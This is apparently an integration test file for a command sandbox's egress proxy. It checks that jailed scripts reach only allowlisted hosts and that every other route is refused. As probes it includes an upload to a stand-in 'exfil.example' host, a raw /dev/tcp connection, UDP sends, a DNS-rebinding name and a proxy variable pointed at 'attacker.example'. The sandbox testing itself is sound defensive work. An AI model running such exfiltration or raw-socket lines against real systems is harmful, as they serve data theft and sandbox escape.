// A network-class jail through the egress proxy, with real bwrap, the bridge helper (Python) and curl against servers on the
// host's loopback. Each case checks from outside what reached the host: the allowed server answers
// through the proxy; every other host, port and protocol is refused (a host_denied violation the gate
// turns into a card) or has no route at all, and the host's loopback is never reached directly.
import { createHash } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { createServer as createHttpServer, type Server as HttpServer } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Executor } from '../../executor/run';
import type { JailViolation } from '../../executor/types';
import { jailFixture, type JailFixture } from '../support/jail';

let fx: JailFixture;
let ex: Executor;
let allowed: HttpServer;
let other: HttpServer;
let allowedPort = 0;
let otherPort = 0;
const hits = { allowed: 0, other: 0, udp: 0 };
const udp = createSocket('udp4');
// Long enough for the helper to splice a plain HTTP body (executor/egress/forward.ts SPLICE_MIN_BYTES).
const big = Buffer.alloc(8 * 1024 * 1024 + 3, 'threshold egress ');
const bigSha = createHash('sha256').update(big).digest('hex');
let udpPort = 0;

const listen = async (s: HttpServer) => {
  await new Promise<void>((r) => s.listen(0, '127.0.0.1', r));
  return (s.address() as { port: number }).port;
};

beforeAll(async () => {
  fx = await jailFixture();
  // Names resolve at the proxy; here one table stands for DNS (the machine has none to rely on).
  ex = new Executor({ home: fx.home, appDirs: [fx.configDir, fx.dataDir], resolveHost: async (h) => (h === 'localhost' ? ['127.0.0.1'] : h === 'rebind.test' ? ['127.0.0.1'] : []) });
  allowed = createHttpServer((req, res) => {
    hits.allowed++;
    if (req.url === '/big') return void res.writeHead(200, { 'content-length': big.length }).end(big);
    res.end(`allowed server: ${req.method} ${req.url}`);
  });
  other = createHttpServer((_req, res) => {
    hits.other++;
    res.end('other server');
  });
  allowedPort = await listen(allowed);
  otherPort = await listen(other);
  udp.on('message', () => hits.udp++);
  await new Promise<void>((r) => udp.bind(0, '127.0.0.1', r));
  udpPort = udp.address().port;
});

afterAll(async () => {
  ex.dispose();
  allowed.close();
  other.close();
  udp.close();
  await fx.close();
});

interface Case {
  name: string;
  script: () => string;
  hosts: () => string[];
  expected: () => { exit: number; stdout: string; hits: typeof hits; denied: string[] };
}

const none = { allowed: 0, other: 0, udp: 0 };

const cases: Case[] = [
  {
    name: 'a plain HTTP request to the allowed address goes through the proxy',
    script: () => `curl -sS --noproxy '' http://127.0.0.1:${allowedPort}/plain`,
    hosts: () => [`127.0.0.1:${allowedPort}`],
    expected: () => ({ exit: 0, stdout: 'allowed server: GET /plain', hits: { ...none, allowed: 1 }, denied: [] }),
  },
  {
    name: 'a long plain HTTP body (spliced by the bridge helper) arrives byte for byte',
    script: () => `printf %s "$(curl -sS --noproxy '' http://127.0.0.1:${allowedPort}/big | sha256sum | cut -c1-64)"`,
    hosts: () => [`127.0.0.1:${allowedPort}`],
    expected: () => ({ exit: 0, stdout: bigSha, hits: { ...none, allowed: 1 }, denied: [] }),
  },
  {
    name: 'a long body through a CONNECT tunnel arrives byte for byte',
    script: () => `printf %s "$(curl -sS --noproxy '' --proxytunnel http://127.0.0.1:${allowedPort}/big | sha256sum | cut -c1-64)"`,
    hosts: () => [`127.0.0.1:${allowedPort}`],
    expected: () => ({ exit: 0, stdout: bigSha, hits: { ...none, allowed: 1 }, denied: [] }),
  },
  {
    name: 'a tunnelled (CONNECT) request to the allowed address goes through the proxy',
    script: () => `curl -sS --noproxy '' --proxytunnel http://127.0.0.1:${allowedPort}/tunnel`,
    hosts: () => [`127.0.0.1:${allowedPort}`],
    expected: () => ({ exit: 0, stdout: 'allowed server: GET /tunnel', hits: { ...none, allowed: 1 }, denied: [] }),
  },
  {
    name: 'SOCKS5 with the host name resolved at the proxy reaches the allowed host',
    script: () => `curl -sS --noproxy '' --socks5-hostname 127.0.0.1:3128 http://localhost:${allowedPort}/socks`,
    hosts: () => [`localhost:${allowedPort}`],
    expected: () => ({ exit: 0, stdout: 'allowed server: GET /socks', hits: { ...none, allowed: 1 }, denied: [] }),
  },
  {
    name: 'another port of the same address is refused and reported',
    script: () => `curl -sS --noproxy '' http://127.0.0.1:${otherPort}/`,
    hosts: () => [`127.0.0.1:${allowedPort}`],
    expected: () => ({ exit: 0, stdout: `Threshold's sandbox, not the task, blocked the connection to 127.0.0.1:${otherPort}: 127.0.0.1:${otherPort} is not on the allowed hosts ([network] allow_hosts) and no grant covers it. The user can allow this host from the card Threshold shows; do not try to reach it another way.\n`, hits: none, denied: [`127.0.0.1:${otherPort}`] }),
  },
  {
    name: 'an HTTPS host not on the allowlist is refused at CONNECT',
    script: () => 'curl -sS https://exfil.example/upload',
    hosts: () => ['registry.npmjs.org'],
    expected: () => ({ exit: 56, stdout: '', hits: none, denied: ['exfil.example:443'] }),
  },
  {
    name: 'a name that resolves to the host loopback is refused even when allowed',
    script: () => `curl -sS --socks5-hostname 127.0.0.1:3128 http://rebind.test:${allowedPort}/`,
    hosts: () => [`rebind.test:${allowedPort}`],
    expected: () => ({ exit: 97, stdout: '', hits: none, denied: [`rebind.test:${allowedPort}`] }),
  },
  {
    name: "the host's loopback is not reachable directly (the jail's 127.0.0.1 is its own)",
    script: () => `curl -sS --noproxy '*' http://127.0.0.1:${allowedPort}/direct`,
    hosts: () => [`127.0.0.1:${allowedPort}`],
    expected: () => ({ exit: 7, stdout: '', hits: none, denied: [] }),
  },
  {
    name: 'no direct TCP to the outside: there is no route',
    script: () => 'exec 3<>/dev/tcp/1.1.1.1/443',
    hosts: () => ['*.example'],
    expected: () => ({ exit: 1, stdout: '', hits: none, denied: [] }),
  },
  {
    name: 'no UDP reaches the host',
    script: () => `echo x > /dev/udp/127.0.0.1/${udpPort}; python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', ${udpPort}))"; sleep 0.2`,
    hosts: () => ['*.example'],
    expected: () => ({ exit: 0, stdout: '', hits: none, denied: [] }),
  },
  {
    name: 'no DNS inside the jail: names resolve only at the proxy',
    script: () => 'getent hosts registry.npmjs.org',
    hosts: () => ['registry.npmjs.org'],
    expected: () => ({ exit: 2, stdout: '', hits: none, denied: [] }),
  },
];

describe('a network-class jail goes out only through the egress proxy', () => {
  it.each(cases)('$name', async (c) => {
    hits.allowed = hits.other = hits.udp = 0;
    const r = await ex.run({ argv: ['bash', '-c', c.script()], cwd: fx.workspace, env: process.env, jail: { class: 'network', workspace: fx.workspace, allowHosts: c.hosts() } });
    const denied = r.violations.filter((v: JailViolation) => v.kind === 'host_denied').map((v) => v.target);
    expect({ exit: r.exitCode, stdout: r.stdout.text, hits: { ...hits }, denied }).toEqual(c.expected());
  });

  it('sets the proxy variables for the command, pointing at the bridge inside the jail', async () => {
    const r = await ex.run({ argv: ['sh', '-c', 'env | grep -i _proxy= | sort'], cwd: fx.workspace, env: { ...process.env, HTTPS_PROXY: 'http://attacker.example:1' }, envAllow: ['HTTPS_PROXY'], jail: { class: 'network', workspace: fx.workspace } });
    expect(r.stdout.text.trim().split('\n')).toEqual([
      'ALL_PROXY=socks5h://127.0.0.1:3128',
      'HTTPS_PROXY=http://127.0.0.1:3128',
      'HTTP_PROXY=http://127.0.0.1:3128',
      'NO_PROXY=localhost,127.0.0.1,::1',
      'all_proxy=socks5h://127.0.0.1:3128',
      'http_proxy=http://127.0.0.1:3128',
      'https_proxy=http://127.0.0.1:3128',
      'no_proxy=localhost,127.0.0.1,::1',
    ]);
  });

  it('reports what the proxy let through and refused with the result', async () => {
    const r = await ex.run({
      argv: ['bash', '-c', `curl -s --noproxy '' http://127.0.0.1:${allowedPort}/a >/dev/null; curl -s https://blocked.example/ >/dev/null; true`],
      cwd: fx.workspace,
      env: process.env,
      jail: { class: 'network', workspace: fx.workspace, allowHosts: [`127.0.0.1:${allowedPort}`] },
    });
    expect(r.egress).toEqual({
      allowed: [`127.0.0.1:${allowedPort}`],
      refused: [{ host: 'blocked.example', port: 443, protocol: 'connect', kind: 'not_allowed', reason: 'blocked.example:443 is not on the allowed hosts ([network] allow_hosts) and no grant covers it' }],
    });
  });
});
